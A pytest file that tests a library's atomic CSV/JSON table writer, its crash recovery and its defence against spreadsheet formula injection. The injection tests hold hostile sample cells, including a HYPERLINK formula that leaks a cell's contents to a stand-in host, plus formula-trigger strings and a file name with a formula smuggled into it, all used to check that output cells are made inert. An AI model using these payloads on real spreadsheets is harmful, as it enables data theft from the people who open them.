"""Writing tables: whole sets switched in atomically, failures that change nothing, CSV cells
that a spreadsheet cannot run (relations_lib.outputs, used by ``make data`` and ``--out``)."""

from __future__ import annotations

import csv
import errno
import json
import os
import pickle
import random
import select
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from conftest import ARTICLES_DIR, REPO, bound_by_permissions

import relations_lib as rl
from relations_lib import build, cli, outputs
from relations_lib.errors import OutputError
from relations_lib.outputs import (
    FORMULA_TRIGGERS,
    JOURNAL,
    STAGING_PREFIX,
    SetWriter,
    neutralise_formulas,
    recover,
    to_csv_bytes,
    write_set,
)

SEED = REPO / "seeds" / "albania_palestine_relations.txt"
CHILE = ARTICLES_DIR / "chile_norway_relations.txt"
CUBA = ARTICLES_DIR / "cuba_angola_relations.txt"


def files_of(folder: Path) -> dict[str, bytes]:
    """Every regular file directly in ``folder`` (hidden staging folders are not files)."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def run(capsys, *argv) -> tuple[int, str, str]:
    code = cli.main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


# --- the writer ---------------------------------------------------------------------------------


def test_a_new_folder_gets_the_whole_set(tmp_path):
    target = tmp_path / "a" / "b"
    changed = write_set(target, {"x.csv": b"x\n1\n", "y.csv": b"y\n2\n"})
    assert files_of(target) == {"x.csv": b"x\n1\n", "y.csv": b"y\n2\n"}
    assert changed == [target / "x.csv", target / "y.csv"]
    assert leftovers(target) == []
    mode = (target / "x.csv").stat().st_mode & 0o777
    umask = os.umask(0)
    os.umask(umask)
    assert mode == 0o666 & ~umask


def test_unchanged_files_are_not_rewritten_and_others_are_not_touched(tmp_path):
    write_set(tmp_path, {"x.csv": b"1\n", "y.csv": b"2\n"})
    (tmp_path / "mine.txt").write_text("a user's file")
    (tmp_path / "reference").mkdir()
    (tmp_path / "reference" / "r.csv").write_text("r")
    before = {p.name: p.stat().st_mtime_ns for p in tmp_path.iterdir()}
    time.sleep(0.01)
    changed = write_set(tmp_path, {"x.csv": b"1\n", "y.csv": b"new\n"}, family={"x.csv", "y.csv"})
    assert changed == [tmp_path / "y.csv"]
    after = {p.name: p.stat().st_mtime_ns for p in tmp_path.iterdir()}
    assert after["x.csv"] == before["x.csv"] and after["mine.txt"] == before["mine.txt"]
    assert (tmp_path / "mine.txt").read_text() == "a user's file"
    assert (tmp_path / "reference" / "r.csv").read_text() == "r"


def test_stale_members_of_the_family_are_removed_in_the_same_switch(tmp_path):
    write_set(tmp_path, {"events.csv": b"old\n", "errors.csv": b"old errors\n"})
    (tmp_path / "notes.csv").write_text("not in the family")
    changed = write_set(
        tmp_path, {"events.csv": b"new\n"}, family={"events.csv", "errors.csv", "events.json"}
    )
    assert files_of(tmp_path) == {"events.csv": b"new\n", "notes.csv": b"not in the family"}
    assert sorted(p.name for p in changed) == ["errors.csv", "events.csv"]


def test_an_exception_while_staging_changes_nothing(tmp_path):
    write_set(tmp_path / "out", {"a.csv": b"old a\n", "b.csv": b"old b\n"})
    before = files_of(tmp_path / "out")
    with pytest.raises(RuntimeError), SetWriter(tmp_path / "out") as writer:
        writer.add("a.csv", b"new a\n")
        raise RuntimeError("the second table failed")
    assert files_of(tmp_path / "out") == before
    assert leftovers(tmp_path / "out") == []
    # a folder created for a failed run is removed again
    with pytest.raises(RuntimeError), SetWriter(tmp_path / "new" / "deep") as writer:
        writer.add("a.csv", b"a\n")
        raise RuntimeError("failed")
    assert not (tmp_path / "new").exists()


def test_streamed_files_switch_in_with_the_rest(tmp_path):
    with SetWriter(tmp_path, family={"a.csv", "b.csv"}) as writer:
        writer.add("a.csv", b"a\n")
        with writer.stream("b.csv") as fh:
            for i in range(3):
                fh.write(f"{i}\n".encode())
    assert files_of(tmp_path) == {"a.csv": b"a\n", "b.csv": b"0\n1\n2\n"}
    assert writer.changed == [tmp_path / "a.csv", tmp_path / "b.csv"]


@pytest.mark.parametrize("name", ["../x.csv", ".hidden", "a/b.csv", ""])
def test_only_plain_names(tmp_path, name):
    with pytest.raises(ValueError, match="plain file name"), SetWriter(tmp_path) as writer:
        writer.add(name, b"x")
    assert list(tmp_path.iterdir()) == []


def test_recover_completes_a_committed_switch_and_drops_an_uncommitted_one(tmp_path):
    write_set(tmp_path, {"a.csv": b"old a\n", "b.csv": b"old b\n", "c.csv": b"old c\n"})
    # a run killed after its commit, with a.csv already moved: roll forward
    committed = tmp_path / f"{STAGING_PREFIX}111-aaaaaa"
    committed.mkdir()
    (tmp_path / "a.csv").write_bytes(b"new a\n")
    (committed / "b.csv").write_bytes(b"new b\n")
    (committed / JOURNAL).write_text(json.dumps({"move": ["a.csv", "b.csv"], "remove": ["c.csv"]}))
    # a run killed while staging: discard
    staged = tmp_path / f"{STAGING_PREFIX}222-bbbbbb"
    staged.mkdir()
    (staged / "a.csv").write_bytes(b"half")
    # a temporary file of the old one-file writer
    (tmp_path / ".b.csv.ab12cd34.tmp").write_bytes(b"half")
    done = recover(tmp_path)
    assert len(done) == 3
    assert files_of(tmp_path) == {"a.csv": b"new a\n", "b.csv": b"new b\n"}
    assert leftovers(tmp_path) == []


def test_a_journal_never_acts_outside_its_folder(tmp_path):
    target = tmp_path / "out"
    target.mkdir()
    (tmp_path / "precious.txt").write_text("keep")
    staging = target / f"{STAGING_PREFIX}1-x"
    staging.mkdir()
    (staging / JOURNAL).write_text(json.dumps({"move": [], "remove": ["../precious.txt"]}))
    recover(target)
    assert (tmp_path / "precious.txt").read_text() == "keep"
    assert leftovers(target) == []


# --- spreadsheet injection ----------------------------------------------------------------------

HOSTILE_CELLS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "plain",
    "a=1",
]


def test_neutralise_formulas_marks_text_cells_only():
    frame = pd.DataFrame(
        {
            "text": pd.array(HOSTILE_CELLS, dtype="string"),
            "obj": pd.Series(HOSTILE_CELLS, dtype=object),
            "cat": pd.Categorical(HOSTILE_CELLS),
            "score": [-9.0, -1.5, 2.0, 3.0, 4.0, 5.0, 6.0, -7.0],
            "count": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64"),
        }
    )
    out = neutralise_formulas(frame)
    expected = ["'" + c if c[0] in "=+-@\t\r" else c for c in HOSTILE_CELLS]
    for column in ("text", "obj", "cat"):
        assert [str(v) for v in out[column]] == expected, column
        assert out[column].dtype == frame[column].dtype or column == "cat"
    assert out["score"].equals(frame["score"]) and out["count"].equals(frame["count"])
    assert frame["text"].iloc[0].startswith("=")  # the input is not modified
    numbers = frame[["score", "count"]]
    assert neutralise_formulas(numbers) is numbers  # nothing to change: no copy


def spreadsheet_would_run(cell: str) -> bool:
    """A CSV cell a spreadsheet evaluates: starts with a trigger and is not a plain number."""
    if not cell.startswith(FORMULA_TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


HOSTILE_ARTICLE = (
    "= Chile–Norway relations =\n\n"
    "Chile and Norway established diplomatic relations in 1920.\n\n"
    "== History ==\n"
    '- =HYPERLINK("http://example.invalid/?leak="&A1,"click") Chile opened an embassy in '
    "Oslo in 1995.\n"
    "- +Norway opened an embassy in Santiago in 1996.\n"
    "- @Chile and Norway signed a treaty in 1997.\n"
    "- -Chile and Norway signed an agreement in 1998.\n"
)


def _sentences(folder: Path, fmt: str) -> list[str]:
    """The sentence cells of the events and unmatched tables written in ``folder``."""
    if fmt == "json":
        return [
            r["sentence"]
            for t in ("events", "unmatched")
            for r in json.loads((folder / f"{t}.json").read_text(encoding="utf-8"))
        ]
    return [
        s
        for t in ("events", "unmatched")
        for s in pd.read_csv(folder / f"{t}.csv", dtype=str, keep_default_na=False)["sentence"]
    ]


def _no_cell_would_run(folder: Path) -> None:
    # the CSV tables; a folder run's parts/ (Parquet, exact text) is not a spreadsheet's
    for name in sorted(p.name for p in folder.iterdir() if p.suffix == ".csv"):
        with open(folder / name, newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert cells and not [c for c in cells if spreadsheet_would_run(c)], name


def test_cli_csv_cells_cannot_run_and_json_keeps_the_text(capsys, tmp_path):
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE_ARTICLE, encoding="utf-8")
    code, _, err = run(capsys, "parse", path, "--out", tmp_path / "csv")
    assert code == 0, err
    code, _, err = run(capsys, "parse", path, "--out", tmp_path / "json", "--format", "json")
    assert code == 0, err
    exact = sorted(s[:2] for s in _sentences(tmp_path / "json", "json"))
    marked = sorted(s[:3] for s in _sentences(tmp_path / "csv", "csv"))
    assert exact[:4] == ["+N", "-C", "=H", "@C"]  # JSON: the exact text
    assert marked[:4] == ["'+N", "'-C", "'=H", "'@C"]  # CSV: inert
    _no_cell_would_run(tmp_path / "csv")


def test_file_names_in_csv_cells_cannot_run(capsys, tmp_path, monkeypatch):
    articles = tmp_path / "articles"
    articles.mkdir()
    (articles / "=cmd.txt").write_text(HOSTILE_ARTICLE, encoding="utf-8")
    (articles / "@bad.txt").write_bytes(b"\xff\xfe not an article")
    monkeypatch.chdir(articles)  # the names are then the first thing in their cells
    code, _, err = run(capsys, "parse", ".", "--out", tmp_path / "out")
    assert code == 0, err
    events = pd.read_csv(tmp_path / "out" / "events.csv", dtype=str)
    assert set(events["article"]) == set(events["source"]) == {"'=cmd.txt"}
    assert all(e.startswith("'=cmd:") for e in events["event_id"])
    errors = pd.read_csv(tmp_path / "out" / "errors.csv", dtype=str)
    assert list(errors["source"]) == ["'@bad.txt"]
    assert errors["error"][0].startswith("'@bad.txt: not UTF-8")
    _no_cell_would_run(tmp_path / "out")
    code, _, err = run(capsys, "parse", ".", "--out", tmp_path / "pq", "--format", "parquet")
    assert code == 0, err
    exact = pd.read_parquet(tmp_path / "pq" / "errors.parquet")
    assert list(exact["source"]) == ["@bad.txt"]  # Parquet: the exact text


def test_committed_data_has_no_cell_a_spreadsheet_would_run():
    for path in sorted((REPO / "data").glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if spreadsheet_would_run(c)], path.name


def test_the_rule_is_documented():
    readme = (REPO / "data" / "README.md").read_text(encoding="utf-8")
    assert "CSV_Injection" in readme and "apostrophe" in readme
    assert "CSV_Injection" in (REPO / "README.md").read_text(encoding="utf-8")


# --- the command line's --out ---------------------------------------------------------------------


def test_single_article_run_does_not_write_over_a_folder_run(capsys, tmp_path):
    folder = tmp_path / "articles"
    folder.mkdir()
    for path in (CHILE, CUBA):
        (folder / path.name).write_bytes(path.read_bytes())
    (folder / "bad.txt").write_bytes(b"\xff")
    out = tmp_path / "out"
    assert run(capsys, "parse", folder, "--out", out)[0] == 0
    assert sorted(files_of(out)) == [
        "errors.csv",
        "events.csv",
        "unmatched.csv",
        "vote_mentions.csv",
    ]
    (out / "my_notes.txt").write_text("mine")
    # the folder holds the run's parts beside its stacked tables: one article's tables written
    # there would sit beside parts that no longer match them (read_run reads the parts), so the
    # command stops before writing (exit 2) and the folder is left as it was
    code, _, err = run(capsys, "parse", CHILE, "--out", out, "--format", "json")
    assert code == 2 and "holds a corpus run" in err
    assert sorted(files_of(out)) == [
        "errors.csv",
        "events.csv",
        "my_notes.txt",
        "unmatched.csv",
        "vote_mentions.csv",
    ]
    # into a folder without a run, a single-article run replaces the set of tables it finds
    # there: the earlier csv tables go, the user's file stays
    single = tmp_path / "single"
    assert run(capsys, "parse", CHILE, "--out", single)[0] == 0
    (single / "my_notes.txt").write_text("mine")
    assert run(capsys, "parse", CUBA, "--out", single, "--format", "json")[0] == 0
    assert sorted(files_of(single)) == [
        "events.json",
        "my_notes.txt",
        "unmatched.json",
        "vote_mentions.json",
    ]


def test_a_folder_run_where_every_article_fails_keeps_the_old_tables(capsys, tmp_path):
    out = tmp_path / "out"
    assert run(capsys, "parse", CHILE, "--out", out)[0] == 0
    before = files_of(out)
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "a.txt").write_bytes(b"\xff\xfe\x00")
    (folder / "b.txt").write_bytes(b"")
    code, out_text, err = run(capsys, "parse", folder, "--out", out)
    assert code == 2
    assert f"nothing written: no article could be processed ({out} unchanged)" in err
    assert "0 articles processed, 2 skipped" in out_text
    assert files_of(out) == before


# --- full disk and read-only targets -------------------------------------------------------------


def _mount_tmpfs(where: Path, size: str, *extra: str) -> bool:
    """Mount a small tmpfs (needs root and permission to mount); False when not possible."""
    if os.geteuid() != 0:
        return False
    where.mkdir(parents=True, exist_ok=True)
    options = ",".join([f"size={size}", "mode=0755", *extra])
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True
    )
    return done.returncode == 0


def _umount(where: Path) -> None:
    subprocess.run(["umount", "-l", str(where)], capture_output=True)


@pytest.fixture()
def small_fs(tmp_path):
    """A 2 MiB tmpfs when this machine lets us mount one, else None (see the tests' fallbacks)."""
    where = tmp_path / "mnt"
    mounted = _mount_tmpfs(where, "2m")
    yield where if mounted else None
    if mounted:
        _umount(where)


def _fill(folder: Path, leave: int) -> Path:
    """Fill the file system of ``folder`` until ``leave`` bytes are free; returns the filler."""
    filler = folder / "filler.bin"
    stats = os.statvfs(folder)
    free = stats.f_bavail * stats.f_frsize
    with open(filler, "wb") as fh:
        fh.write(b"\0" * max(0, free - leave))
    return filler


def _inject_enospc(monkeypatch, after_bytes: int) -> None:
    """Stand-in for a full disk where no small file system can be mounted: os.write in the
    writer fails with ENOSPC once ``after_bytes`` have been written (as the kernel would)."""
    written = {"n": 0}
    real = os.write

    def write(fd, data):
        if written["n"] + len(data) > after_bytes:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        written["n"] += len(data)
        return real(fd, data)

    monkeypatch.setattr(outputs.os, "write", write)


def test_full_disk_changes_nothing_then_a_retry_succeeds(capsys, tmp_path, small_fs, monkeypatch):
    """Old set: the Chile article's tables; new set: the seed's, which do not fit."""
    out = (small_fs or tmp_path) / "out"
    assert run(capsys, "parse", CHILE, "--out", out)[0] == 0
    old = files_of(out)
    new_size = sum(len(cli.serialise(f, "csv")) for f in _tables(SEED).values())
    if small_fs is not None:
        filler = _fill(small_fs, leave=new_size // 2)
    else:
        _inject_enospc(monkeypatch, after_bytes=new_size // 2)
    code, _, err = run(capsys, "parse", SEED, "--out", out)
    assert code == 2
    assert "cannot write: no space left on device" in err
    assert f"{out} was left unchanged" in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert files_of(out) == old and leftovers(out) == []
    if small_fs is not None:
        filler.unlink()
    else:
        monkeypatch.undo()
    code, _, err = run(capsys, "parse", SEED, "--out", out)
    assert code == 0, err
    assert files_of(out) == {f"{n}.csv": cli.serialise(f, "csv") for n, f in _tables(SEED).items()}


@pytest.fixture()
def read_only_folder(tmp_path):
    """A folder holding one table that cannot be written to: a tmpfs remounted read-only when
    we may mount, else a folder without write permission (the runs below are then bound by
    permissions even as root: see conftest.bound_by_permissions)."""
    where = tmp_path / "ro"
    mounted = _mount_tmpfs(where, "1m")
    where.mkdir(exist_ok=True)
    (where / "events.csv").write_bytes(b"old events\n")
    if mounted:
        subprocess.run(["mount", "-o", "remount,ro", str(where)], check=True)
    else:
        where.chmod(0o555)
    yield where, ("read-only file system" if mounted else "permission denied")
    if mounted:
        _umount(where)
    else:
        where.chmod(0o755)


def _run_module(module: str, *argv: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", module, *argv],
        capture_output=True,
        text=True,
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO), "PYTHONDONTWRITEBYTECODE": "1"},
        preexec_fn=bound_by_permissions,
        timeout=300,
    )


def test_read_only_target_is_a_clear_error_and_changes_nothing(read_only_folder):
    where, reason = read_only_folder
    done = _run_module("relations_lib.cli", "parse", str(SEED), "--out", str(where))
    assert done.returncode == 2, done.stderr
    assert done.stderr.strip() == f"{where}: cannot write: {reason}; {where} was left unchanged"
    assert files_of(where) == {"events.csv": b"old events\n"}


def test_make_data_on_a_read_only_folder_prints_one_line(read_only_folder):
    where, reason = read_only_folder
    done = _run_module("relations_lib.build", "--out", str(where))
    assert done.returncode == 2, done.stderr
    expected = f"error: {where}: cannot write: {reason}; {where} was left unchanged"
    assert done.stderr.strip() == expected
    assert files_of(where) == {"events.csv": b"old events\n"}


def test_make_data_full_disk(tmp_path, small_fs, monkeypatch):
    target = (small_fs or tmp_path) / "data"
    target.mkdir()
    (target / "reference").mkdir()
    (target / "reference" / "keep.csv").write_text("committed")
    if small_fs is not None:
        _fill(small_fs, leave=64 * 1024)
    else:
        _inject_enospc(monkeypatch, after_bytes=64 * 1024)
    with pytest.raises(OutputError, match="no space left on device") as info:
        build.build(target, log=lambda _: None)
    assert not info.value.committed
    assert files_of(target) == {} and leftovers(target) == []
    assert (target / "reference" / "keep.csv").read_text() == "committed"


# --- killed at random moments -------------------------------------------------------------------

DRIVER = r"""
import os, pickle, sys, time
sys.path.insert(0, {repo!r})
from relations_lib import build, cli, corpus, outputs

with open({tables!r}, "rb") as fh:
    tables = pickle.load(fh)
corpus.extract_tables = lambda article: tables
build.build_tables = lambda names=None: tables

# Slow every step of the write phase down (each file system call waits a little), so that
# a kill at a random moment lands anywhere in it; announce the phase when it starts.
def slow(call, pause):
    def slowed(*args, **kwargs):
        time.sleep(pause)
        return call(*args, **kwargs)
    return slowed

os.write, os.fsync = slow(os.write, 0.002), slow(os.fsync, 0.002)
os.replace, os.unlink = slow(os.replace, 0.004), slow(os.unlink, 0.004)
real_open = outputs.SetWriter.open
def announced(self):
    sys.stdout.write("WRITE\n")
    sys.stdout.flush()
    real_open(self)
outputs.SetWriter.open = announced
real_commit = outputs.SetWriter.commit
def committed(self):
    changed = real_commit(self)
    sys.stdout.write("DONE\n")
    sys.stdout.flush()
    return changed
outputs.SetWriter.commit = committed
sys.exit({main}({argv!r}))
"""


def _tables(path: Path) -> dict[str, pd.DataFrame]:
    article = rl.read_article(path)
    return {
        "events": rl.extract_events(article),
        "vote_mentions": rl.extract_vote_mentions(article),
        "unmatched": rl.unmatched(article),
    }


def _kill_during_write(script: str, delay: float | None) -> float:
    """Run the driver and SIGKILL it ``delay`` s after its write phase starts (``None``: let
    it finish and return the phase's length, marker to marker). Returns -1 when it was
    killed, else the seconds until it was seen to have ended."""
    proc = subprocess.Popen(
        [sys.executable, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    try:
        ready, _, _ = select.select([proc.stdout], [], [], 120)
        assert ready and proc.stdout.readline() == b"WRITE\n", proc.stderr.read()
        started = time.monotonic()
        if delay is None:  # the phase ends when the writer's commit returns
            assert proc.stdout.readline() == b"DONE\n", proc.stderr.read()
            phase = time.monotonic() - started
            assert proc.wait(timeout=120) == 0, proc.stderr.read()
            return phase
        time.sleep(delay)
        if proc.poll() is not None:
            return time.monotonic() - started
        proc.send_signal(signal.SIGKILL)
        return -1.0
    finally:
        proc.wait(timeout=60)
        proc.stdout.close()
        proc.stderr.close()


def _check_sets(target: Path, names: set[str], old: dict, new: dict, tally: dict) -> None:
    """Right after the kill: old-complete, or a committed journal whose roll-forward gives
    new-complete (or new-complete already). Then after recovery: one of the two, no leftover."""
    mine = {k: v for k, v in files_of(target).items() if k in names}
    committed = any((p / JOURNAL).exists() for p in target.glob(f"{STAGING_PREFIX}*"))
    if committed:
        tally["committed, renames unfinished"] += 1
    elif mine == old:
        tally["old"] += 1
    elif mine == new:
        tally["new"] += 1
    else:
        raise AssertionError(f"a mixed set without a committed journal: {sorted(mine)}")
    recover(target)
    mine = {k: v for k, v in files_of(target).items() if k in names}
    assert mine in (old, new), "after recovery: a mixed set"
    if committed:
        assert mine == new
    assert leftovers(target) == []


def _kill_loop(tmp_path, *, old, new, names, main, argv, tables, tries=20) -> dict[str, int]:
    rng = random.Random(16)
    pickled = tmp_path / "tables.pickle"
    pickled.write_bytes(pickle.dumps(tables))
    target = Path(argv[argv.index("--out") + 1])
    script = DRIVER.format(repo=str(REPO), tables=str(pickled), main=main, argv=argv)
    tally = {"old": 0, "new": 0, "committed, renames unfinished": 0, "finished": 0}
    deadline = time.monotonic() + 240

    def reset() -> None:  # start from the old set each time
        write_set(target, old, family=names)
        for name in set(files_of(target)) & names - set(old):
            (target / name).unlink()
        assert {k: v for k, v in files_of(target).items() if k in names} == old

    reset()
    phase = _kill_during_write(script, None)  # how long an uninterrupted write phase is
    assert {k: v for k, v in files_of(target).items() if k in names} == new
    for attempt in range(tries):
        reset()
        # random moments, one in each of `tries` equal slices of the phase (stratified), so
        # that early, middle and late kills all happen whatever the draw
        delay = phase * (attempt + rng.random()) / tries
        if _kill_during_write(script, delay) >= 0:
            tally["finished"] += 1
        _check_sets(target, names, old, new, tally)
        assert time.monotonic() < deadline, f"kill loop too slow: {tally}"
    tally["phase (s)"] = round(phase, 3)
    return tally


def test_killing_the_cli_leaves_the_old_or_the_new_set(tmp_path):
    out = tmp_path / "out"
    old_tables = {**_tables(CHILE), "errors": rl.extract_events_many([CHILE]).errors}
    old = {f"{n}.csv": cli.serialise(f, "csv") for n, f in old_tables.items()}
    new_tables = _tables(SEED)
    new = {f"{n}.csv": cli.serialise(f, "csv") for n, f in new_tables.items()}
    (out).mkdir()
    (out / "mine.txt").write_text("a user's file")
    tally = _kill_loop(
        tmp_path,
        old=old,
        new=new,
        names=set(cli.OUTPUT_FAMILY),
        main="cli.main",
        argv=["parse", str(SEED), "--out", str(out)],
        tables=new_tables,
    )
    print(tally)
    assert tally["old"] and tally["committed, renames unfinished"] + tally["new"]
    assert (out / "mine.txt").read_text() == "a user's file"


def test_killing_make_data_leaves_the_old_or_the_new_set(tmp_path):
    target = tmp_path / "data"
    (target / "reference").mkdir(parents=True)
    (target / "reference" / "keep.csv").write_text("committed")
    tables = build.build_tables()
    new = {name: to_csv_bytes(frame) for name, frame in tables.items()}
    new["README.md"] = build._data_readme().encode()
    old = {name: to_csv_bytes(frame.head(len(frame) - 1)) for name, frame in tables.items()}
    old["README.md"] = b"# an older data dictionary\n"
    tally = _kill_loop(
        tmp_path,
        old=old,
        new=new,
        names=set(new),
        main="build.main",
        argv=["--out", str(target)],
        tables=tables,
    )
    print(tally)
    assert tally["old"] and tally["committed, renames unfinished"] + tally["new"]
    assert (target / "reference" / "keep.csv").read_text() == "committed"


def test_make_data_cleans_what_a_killed_run_left(tmp_path):
    target = tmp_path / "data"
    build.build(target, log=lambda _: None)
    fresh = files_of(target)
    stale = target / f"{STAGING_PREFIX}99999-abcdef"
    stale.mkdir()
    (stale / "events.csv").write_bytes(b"half a table")
    (target / ".events.csv.k2j4h5g6.tmp").write_bytes(b"old writer's leftover")
    assert build.build(target, log=lambda _: None) == []
    assert files_of(target) == fresh and leftovers(target) == []


def test_write_tables_and_csv_in_pieces(tmp_path):
    frame = pd.DataFrame({"a": pd.array(["=1", "x", "y"], dtype="string"), "n": [1, -2, 3]})
    paths = outputs.write_tables({"t": frame, "u": frame.head(1)}, tmp_path, "csv")
    assert paths == [tmp_path / "t.csv", tmp_path / "u.csv"]
    whole = (tmp_path / "t.csv").read_bytes()
    assert whole == b"a,n\n'=1,1\nx,-2\ny,3\n"
    pieces = to_csv_bytes(frame.iloc[:1]) + to_csv_bytes(frame.iloc[1:], header=False)
    assert pieces == whole
